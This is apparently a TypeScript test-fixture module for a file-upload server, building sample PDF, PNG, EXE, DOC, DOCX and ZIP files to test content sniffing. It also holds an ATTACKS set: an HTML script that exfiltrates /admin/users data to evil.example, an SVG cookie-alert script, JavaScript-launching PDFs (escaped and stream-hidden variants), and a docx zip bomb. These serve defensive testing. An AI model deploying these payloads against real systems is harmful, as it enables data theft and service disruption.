import fs from 'fs';
import path from 'path';
import { ROOT } from './env';

/**
 * Small real files for upload tests: each is what its type's magic bytes say, so the server's
 * content sniffing (file-type) accepts or refuses them for the right reason.
 */
export const PDF = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');

export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);

/** A Windows executable's header: what a renamed .exe starts with. */
export const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(256, 0)]);

/** An OLE compound file header, as a Word 97 .doc starts. */
export const DOC = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024, 0)]);

/** A minimal Word document: a ZIP holding word/document.xml, as .docx files are. */
export async function docx(text = '修改意见'): Promise<Buffer> {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const JSZip = require('jszip');
  const zip = new JSZip();
  zip.file('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>');
  zip.file('word/document.xml', `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

/** A ZIP that is not a Word document. */
export async function plainZip(): Promise<Buffer> {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const JSZip = require('jszip');
  const zip = new JSZip();
  zip.file('readme.txt', 'not a word file');
  return zip.generateAsync({ type: 'nodebuffer' });
}

/** Writes a fixture to a throwaway folder and returns its path, for a browser's file input. */
export function fixtureFile(name: string, content: Buffer): string {
  const file = path.join(ROOT, 'tests', '.artifacts', 'fixtures', name);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, content);
  return file;
}

/** Files that attack whoever opens them; each must be refused or stored inert (docs/security.md). */
export const ATTACKS = {
  html: Buffer.from('<!DOCTYPE html><html><body><script>fetch("/admin/users").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script></body></html>'),
  svg: Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script><rect width="1" height="1"/></svg>'),
  /** A PDF whose catalogue runs JavaScript when opened. */
  pdfScript: Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  /** The same, with the name written in #xx escapes (/J#61vaScript is /JavaScript). */
  pdfEscaped: Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n2 0 obj<</S/J#61vaScript/J#53(app.alert(1))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  /** The script hidden in a compressed object stream, where the raw bytes do not show it. */
  pdfHidden: (() => {
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const packed: Buffer = require('zlib').deflateSync(Buffer.from('2 0 <</S/JavaScript/JS(app.alert(1))>>'));
    return Buffer.concat([
      Buffer.from(`%PDF-1.5\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n3 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`),
      packed,
      Buffer.from('\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
    ]);
  })(),
};

/** A .docx whose one part inflates to `megabytes` of zeros: a zip bomb that looks like Word. */
export async function zipBombDocx(megabytes = 200): Promise<Buffer> {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const JSZip = require('jszip');
  const zip = await JSZip.loadAsync(await docx());
  zip.file('word/media/bomb.bin', Buffer.alloc(megabytes * 1024 * 1024, 0));
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
}
